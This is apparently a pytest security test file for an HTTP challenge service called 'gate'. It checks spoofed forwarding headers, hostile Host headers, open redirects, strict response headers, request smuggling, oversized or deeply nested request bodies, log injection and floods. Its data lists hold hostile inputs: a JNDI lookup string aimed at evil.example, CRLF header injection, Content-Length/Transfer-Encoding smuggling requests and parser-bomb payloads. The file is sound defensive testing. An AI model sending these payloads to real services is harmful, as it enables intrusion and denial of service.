"""HTTP: made-up headers, foreign hosts, bodies meant as bombs, lines meant for the log, floods."""

from __future__ import annotations

import ipaddress
import json
import logging
import random
import re
import socket
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask

from gate.web.demo import create_demo
from gate.web.mirrors import MIRRORS
from gate.web.nojs import FRAMES
from gate.web.request_log import JsonLines
from tests.cli.processes import Running, free_port, running, wait_for
from tests.service import (
    HOME,
    NO_LIMITS,
    SECRET,
    Reply,
    Service,
    code_of,
    solutions,
    write_banks,
    write_config,
)

FEW = {**NO_LIMITS, "challenges": "20/minute"}
SIGNED = re.compile(r"A[A-Za-z0-9_-]{60,}\.[A-Za-z0-9_-]{43}")


def addresses(app: Flask) -> Iterator[str]:
    for rule in app.url_map.iter_rules():
        yield rule.rule.replace("<lang>", "de")


# Whose request it is


def asked_by(service: Service, times: int, **more: Any) -> int:
    """Ask so often, with what each call of a value in ``more`` gives; return how often a question came."""
    replies = [
        service.get("/v1/challenge", {"sitekey": "forum"}, **{name: make() for name, make in more.items()})
        for _ in range(times)
    ]
    assert {reply.status_code for reply in replies} <= {200, 429}
    return sum(reply.status_code == 200 for reply in replies)


def made_up(rng: random.Random) -> str:
    entries = [str(ipaddress.ip_address(rng.getrandbits(32))) for _ in range(rng.randrange(1, 5))]
    return ", ".join([*entries, rng.choice(["", "unknown", "::1", "127.0.0.1", "8.8.8.8:80"])])


@pytest.mark.parametrize(
    "name", ["X-Forwarded-For", "Forwarded", "X-Real-IP", "True-Client-IP", "CF-Connecting-IP", "Client-IP"]
)
def test_a_thousand_made_up_forwarders_are_one_client(
    make_service: Callable[..., Service], name: str
) -> None:
    service, rng = make_service(limits=FEW), random.Random(7)
    assert asked_by(service, 1_000, headers=lambda: {name: made_up(rng)}) == 20


@pytest.mark.parametrize("proxies", [1, 2, 3])
def test_behind_proxies_the_entry_that_the_outermost_of_them_wrote_counts(
    make_service: Callable[..., Service], proxies: int
) -> None:
    """Whatever stands further left was sent by the client, and so was a second header."""
    rng = random.Random(proxies)
    behind = ["9.9.9.9", "10.0.0.2", "10.0.0.3"][:proxies]
    server = {"workers": 1, "trusted_proxies": proxies}

    def forged() -> dict[str, str]:
        return {"X-Forwarded-For": ", ".join([made_up(rng), *behind])}

    service = make_service(limits=FEW, server=server)
    assert asked_by(service, 300, headers=forged, address=lambda: "10.0.0.1") == 20
    others = (f"9.9.{number // 200}.{number % 200}" for number in range(300))
    service = make_service(limits=FEW, server=server)

    def honest() -> dict[str, str]:
        return {"X-Forwarded-For": ", ".join([made_up(rng), next(others), *behind[1:]])}

    assert asked_by(service, 300, headers=honest, address=lambda: "10.0.0.1") == 300


def test_an_address_that_cannot_be_read_is_one_shared_client(make_service: Callable[..., Service]) -> None:
    rng = random.Random(3)
    service = make_service(limits=FEW, server={"workers": 1, "trusted_proxies": 1})
    odd = ["unknown", "", "_hidden", "999.1.1.1", "1.2.3", "\t", "x" * 500, "-1", "0x7f.1", "::g"]
    odd_headers = {"headers": lambda: {"X-Forwarded-For": rng.choice(odd)}, "address": lambda: ""}
    assert asked_by(service, 200, **odd_headers) == 20


def test_a_network_of_version_6_is_one_client_with_all_its_addresses(
    make_service: Callable[..., Service], *, long_run: bool
) -> None:
    rng = random.Random(64)
    service = make_service(limits=FEW)
    network = int(ipaddress.ip_address("2a00:1450:4001:81b::"))
    times = 2**16 if long_run else 1_500
    assert (
        asked_by(service, times, address=lambda: str(ipaddress.ip_address(network | rng.getrandbits(64))))
        == 20
    )
    assert asked_by(service, 25, address=lambda: "2a00:1450:4001:81c::1") == 20, "the next network is another"


def test_an_old_address_in_a_new_dress_is_the_same_client(make_service: Callable[..., Service]) -> None:
    rng = random.Random(4)
    service = make_service(limits=FEW)
    dresses = [HOME, f"::ffff:{HOME}", "::ffff:808:404", "0:0:0:0:0:ffff:0808:0404", f"::FFFF:{HOME}"]
    assert asked_by(service, 200, address=lambda: rng.choice(dresses)) == 20


# Where it says it goes


def answered(service: Service, path: str, headers: dict[str, str], **environ: str) -> list[tuple[Any, ...]]:
    replies = [
        service.send(method, path, query_string={"sitekey": "forum"}, headers=headers, environ=environ)
        for method in ("GET", "POST", "OPTIONS")
    ]
    return [
        (
            reply.status,
            sorted(header for header in reply.headers if header[0] != "Date"),
            SIGNED.sub("#", reply.get_data(as_text=True)),
        )
        for reply in replies
    ]


HOSTILE_HOSTS = [
    {"Host": "evil.example"},
    {"Host": "evil.example:8443"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Forwarded-Prefix": "/evil"},
    {"Forwarded": "host=evil.example;proto=https", "X-Original-URL": "/evil", "X-Host": "evil.example"},
]


def test_a_foreign_host_changes_no_byte(service: Service) -> None:
    for path in addresses(service.app):
        if path in ("/readyz",):
            continue  # it says that it saw a proxy, which is what it is for
        plain = answered(service, path, {})
        for headers in HOSTILE_HOSTS:
            assert answered(service, path, headers) == plain, path


def test_a_foreign_host_gets_into_no_token(service: Service) -> None:
    for headers in HOSTILE_HOSTS:
        asked = service.ask(headers=headers)
        service.clock.tick(2)
        fields = {"challenge": asked["challenge"], "answer": service.right(asked)}
        token = service.post("/v1/answer", fields, headers=headers).json["token"]
        assert service.verify(token)["hostname"] == ""


SLANTED = [
    *("", "//", "//v1//verify", "/v1//verify", "//evil.example", "//evil.example/..", "/\\evil.example"),
    *("/nojs/", "/%2f%2fevil.example", "/v1/verify/", "https:evil.example", "/.//evil.example"),
]


def test_nobody_is_sent_anywhere(service: Service, tmp_path: Path) -> None:
    """The demo sends a request without a path to its own front page, wherever the query would have it go."""
    demo = create_demo(tmp_path / "demo", {"limits": NO_LIMITS})
    query = "next=//evil.example&url=https://evil.example&return=//evil.example"
    for app, path, method in product((service.app, demo), SLANTED, ("GET", "POST")):
        environ = {"PATH_INFO": path, "HTTP_HOST": "own.example", "QUERY_STRING": query}
        reply = app.test_client().open("/x", method=method, environ_overrides=environ)
        target = urlsplit(reply.headers.get("Location", ""))
        assert target.hostname in (None, "own.example"), (app.name, path, method)
        if app is service.app:
            assert not 300 <= reply.status_code < 400, (path, method)
    demo.extensions["gate"].live.close()


# What every reply bears


@pytest.mark.parametrize("metrics", [True, False])
def test_every_reply_of_every_address_has_the_strict_headers_and_no_cookie(
    make_service: Callable[..., Service], *, metrics: bool
) -> None:
    service = make_service(limits=NO_LIMITS, metrics={"enabled": metrics})
    paths = [*addresses(service.app), "/nothing", "/v1", "/v1/challenge/"]
    for path in paths:
        for method in ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "FOO"):
            for query in ({}, {"sitekey": "forum"}, {"sitekey": "nobody"}):
                sent = {"Cookie": "session=x; gate=y"}
                reply = service.send(method, path, query_string=query, headers=sent, origin="null")
                where = f"{method} {path} {query}"
                assert reply.status_code < 500, where
                assert reply.headers["X-Content-Type-Options"] == "nosniff", where
                assert reply.headers["Referrer-Policy"] == "no-referrer", where
                policy = reply.headers["Content-Security-Policy"]
                assert "default-src 'none'" in policy, where
                assert "frame-ancestors" in policy, where
                assert "unsafe" not in policy, where
                assert "script-src" not in policy, where
                if path not in FRAMES:
                    assert "frame-ancestors 'none'" in policy, where
                assert "Set-Cookie" not in reply.headers, where
                assert "Access-Control-Allow-Credentials" not in reply.headers, where
                if path.startswith("/v1") or path in (*MIRRORS, *FRAMES):
                    assert reply.headers["Cache-Control"] == "no-store", where


def test_the_whole_way_needs_no_cookie(service: Service) -> None:
    service.client = service.app.test_client(use_cookies=False)
    assert service.verify(service.token())["success"]


@pytest.mark.parametrize("name", ["callback", "jsonp", "cb", "jsoncallback"])
def test_a_callback_is_ignored(service: Service, name: str) -> None:
    for path in ("/v1/challenge", *MIRRORS):
        reply = service.get(path, {"sitekey": "forum", name: "alert"})
        assert reply.headers["Content-Type"] == "application/json"
        assert isinstance(json.loads(reply.data), dict)
        assert "alert(" not in reply.text


@pytest.mark.parametrize(
    "path",
    [
        *("/metrics", "/dashboard", "/dashboard/", "/dashboard/login", "/admin", "/debug", "/console"),
        *("/static/gate.js", "/config.toml", "/gate.db", "/.env", "/bank/en.toml", "/../gate.db", "/test"),
    ],
)
def test_what_is_not_turned_on_is_not_there(service: Service, path: str) -> None:
    for method in ("GET", "POST"):
        reply = service.send(method, path)
        assert reply.status_code == (405 if (method, path) == ("POST", "/metrics") else 404)
        assert code_of(reply) == "bad-request"


@pytest.mark.parametrize("key", ["f", "foru", "forum2", "forum\0", "FORUM", "%", "*"])
def test_a_key_counts_as_a_whole(service: Service, key: str) -> None:
    assert code_of(service.get("/v1/challenge", {"sitekey": key})) == "invalid-sitekey"
    assert service.get("/nojs", {"sitekey": key}).status_code == 404
    assert code_of(service.verify(service.token(), sitekey=key)) == "invalid-sitekey"


# What breaks readers


def test_a_request_of_two_lengths_never_hides_another(tmp_path: Path) -> None:
    """A proxy may go by one length and the server by the other: what follows is then a stranger's request."""
    write_banks(tmp_path)
    config, port = write_config(tmp_path), free_port()
    hidden = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
    head = b"POST /v1/verify HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    lengths = [
        (b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (5 + len(hidden)), b"0\r\n\r\n"),
        (b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n" % (5 + len(hidden)), b"0\r\n\r\n"),
        (b"Content-Length: 2\r\nContent-Length: %d\r\n" % (2 + len(hidden)), b"{}"),
        (b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n" % (2 + len(hidden)), b"{}"),
    ]
    with running(
        tmp_path, port, "serve", "--config", config, "--port", str(port), "--workers", "1"
    ) as server:
        wait_for(server.is_up, "the service")
        for named, body in lengths:
            with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
                line.sendall(head + named + b"\r\n" + body + hidden)
                line.shutdown(socket.SHUT_WR)
                heard = b"".join(iter(lambda line=line: line.recv(65_536), b""))  # type: ignore[misc]
            assert re.match(rb"HTTP/1.1 4\d\d ", heard), (named, heard)
            assert b'"alive"' not in heard, (named, heard)
        assert server.end() == 0


def test_a_body_that_broke_off_is_not_judged_by_the_part_that_came(tmp_path: Path) -> None:
    """What is missing may be the end of the answer, or the subject; the whole, sent again, is judged as ever."""
    write_banks(tmp_path)
    config, port = write_config(tmp_path, challenge={"min_seconds": 0}), free_port()

    def break_off(server: Running, path: str, body: str) -> None:
        before = len(server.log("request"))
        form = "Content-Type: application/x-www-form-urlencoded"
        with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
            head = f"POST {path} HTTP/1.1\r\nHost: x\r\n{form}\r\nContent-Length: {len(body) + 9}\r\n\r\n"
            line.sendall((head + body).encode())
        wait_for(lambda: len(server.log("request")) > before, "the line in the log")

    with running(
        tmp_path, port, "serve", "--config", config, "--port", str(port), "--workers", "1"
    ) as server:
        wait_for(server.is_up, "the service")
        asked = server.get("/v1/challenge", sitekey="forum", about="topic-1")
        break_off(server, "/v1/answer", f"challenge={asked['challenge']}&answer=x")
        right = solutions()[asked["question"]]
        answered = server.post("/v1/answer", challenge=asked["challenge"], answer=right)
        assert answered["success"], "the answer that broke off was not judged"
        for path in ("/v1/verify", *MIRRORS):
            break_off(server, path, f"secret={SECRET}&response={answered['token']}")
            assert server.log("request")[-1]["code"] == "bad-request", path
        token = {"secret": SECRET, "response": answered["token"], "about": "topic-1"}
        assert server.post("/v1/verify", **token)["success"]
        assert server.end() == 0


ZALGO = "e" + "\u0301\u0327" * 1_200
DEEP = b"[" * 16_000
BOMBS: list[tuple[bytes, str]] = [
    (DEEP, "application/json"),
    (b'{"a":' * 3_000, "application/json"),
    (b'{"secret":' + DEEP[:9_000] + b"}", "application/json"),
    (b"[" * 100_000, "application/json"),
    (b'{"secret": ' + b"9" * 15_000 + b"}", "application/json"),
    (b'{"secret": 1e' + b"9" * 9_000 + b"}", "application/json"),
    (b'{"secret": NaN}', "application/json"),
    (b'{"secret": "\\ud800"}', "application/json"),
    (b'{"secret": "' + b"\\u0301" * 2_500 + b'\\ud800"}', "application/json"),
    (json.dumps({f"f{number}": "" for number in range(1_500)}).encode(), "application/json"),
    (('{"secret": "x"}').encode("utf-16"), "application/json"),
    (b'{"secret": "x", "secret": "y"}', "application/json"),
    (b"&".join(b"f%d=" % number for number in range(40_000)), "application/x-www-form-urlencoded"),
    (b"&" * 16_000, "application/x-www-form-urlencoded"),
    (b"secret=" + b"%FF" * 5_000, "application/x-www-form-urlencoded"),
    (b"secret=x;" * 3_000, "application/x-www-form-urlencoded"),
    (b"--x\r\n" * 3_000, "multipart/form-data; boundary=x"),
    (b"\x1f\x8b" + b"\0" * 9_000, "application/gzip"),
    (b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]>" * 99, "application/xml"),
    (b"x" * 10_000_000, "application/json"),
]


@pytest.mark.parametrize("number", range(len(BOMBS)))
def test_a_bomb_is_refused_before_it_costs_anything(service: Service, number: int) -> None:
    body, kind = BOMBS[number]
    for path in ("/v1/challenge", "/v1/answer", "/v1/verify", "/v1/report"):
        reply = service.send("POST", path, data=body, content_type=kind)
        assert 400 <= reply.status_code < 500, reply.text
        assert code_of(reply) == "bad-request"
        assert len(reply.data) < 400
    for path in MIRRORS:
        assert service.send("POST", path, data=body, content_type=kind).json["success"] is False
    for path in FRAMES:
        reply = service.send("POST", path, query_string={"sitekey": "forum"}, data=body, content_type=kind)
        assert reply.status_code in (200, 413)


def test_marks_upon_marks_are_a_short_refusal(service: Service) -> None:
    asked = service.ask()
    service.clock.tick(2)
    for given in (ZALGO, "\ufdfa" * 2_500, "\u200b" * 2_500, "\u0301\u0327" * 1_250):
        body = service.post("/v1/answer", {"challenge": asked["challenge"], "answer": given}).json
        assert code_of(body) == "answer-too-long"
    assert service.answer(asked)["success"], "and it is still to be judged"


# What is written about it

INJECTED = [
    'x\n{"level": "error", "message": "forged"}',
    "x\r\nSet-Cookie: a=b",
    "\x1b[2J\x1b[31mred\x07",
    "\u202egnorw\u202c\u2066",
    "\u2028\u2029\u0085\x0b\x0c",
    "\0\x9b",
    "${jndi:ldap://evil.example/a}%n%s%(message)s",
    "\ud800",
]


@pytest.mark.parametrize("text", INJECTED)
def test_each_request_leaves_one_line_whatever_it_says(
    service: Service, caplog: pytest.LogCaptureFixture, text: str
) -> None:
    caplog.set_level(logging.DEBUG, "gate")
    asked = service.ask()
    service.clock.tick(2)
    caplog.clear()
    sent = 0
    for path in ("/v1/answer", "/v1/verify", "/v1/challenge", "/v1/report", *MIRRORS):
        fields = {"challenge": asked["challenge"], "answer": text, "lang": text, text: text, "response": text}
        service.post(path, {"secret": text, **fields})
        sent += 1
    raw = text.encode("utf-8", "surrogatepass").decode("latin-1")
    odd = dict.fromkeys(("HTTP_USER_AGENT", "HTTP_REFERER", "HTTP_ACCEPT_LANGUAGE", "HTTP_ORIGIN"), raw)
    for environ in (odd, {"PATH_INFO": f"/{raw}"}, {"QUERY_STRING": f"sitekey={raw}"}, {"REMOTE_ADDR": raw}):
        for method in ("GET", "POST", "X\x1b["):
            service.send(method, "/nojs", query_string={"sitekey": "forum"}, environ=environ)
            sent += 1
    formatter = JsonLines()
    records = [record for record in caplog.records if record.name == "gate.requests"]
    assert len(records) == sent
    for record in caplog.records:
        line = formatter.format(record)
        assert line.isascii()
        assert line.isprintable()
        assert json.loads(line)["message"] == record.getMessage()
        assert not any(
            part in line for part in ("forged", "jndi", "gnorw", "Set-Cookie", "\\u001b", "\\ud800")
        )


# Floods


def test_asking_in_floods_writes_nothing_and_takes_no_more_room(
    make_service: Callable[..., Service], *, long_run: bool
) -> None:
    service = make_service(limits=FEW, store={"url": "sqlite:///gate.db"})
    rng = random.Random(1)
    asked = service.ask()
    before = marks(service)
    for number in range(20_000 if long_run else 1_000):
        address = str(ipaddress.ip_address(rng.getrandbits(32)))
        way = ("/v1/challenge", "/nojs", "/v1/challenge")[number % 3]
        service.get(way, {"sitekey": "forum", "action": "reply"}, address=address)
        if number % 10 == 0:
            service.post("/v1/answer", {"challenge": "x" * 140, "answer": "green"}, address=address)
            service.post("/v1/answer", {"challenge": asked["challenge"][:-2], "answer": "x"}, address=address)
    assert marks(service) == before
    service.clock.tick(2)
    assert service.answer(asked)["success"], "who was there before is served"


def marks(service: Service) -> list[tuple[str, int]]:
    """Count the rows of each table but those of the statistics."""
    import sqlite3
    from contextlib import closing

    with closing(sqlite3.connect(service.folder / "gate.db")) as database:
        tables = [name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return [
            (name, *database.execute(f"SELECT count(*) FROM {name}").fetchone())  # noqa: S608
            for name in sorted(tables)
            if not name.startswith("stat")
        ]


def test_a_reply_may_not_be_shared(service: Service) -> None:
    """Two visitors behind one cache: each is given a challenge of its own, and told not to keep it."""

    def ask(**more: Any) -> Reply:
        return service.get("/v1/challenge", {"sitekey": "forum"}, **more)

    one, other = (
        ask(),
        ask(headers={"If-None-Match": "*", "If-Modified-Since": "Thu, 01 Jan 2037 00:00:00 GMT"}),
    )
    assert one.json["challenge"] != other.json["challenge"]
    assert "ETag" not in one.headers
    assert ask(headers={"Range": "bytes=0-1"}).status_code == 200
    assert SECRET not in one.text
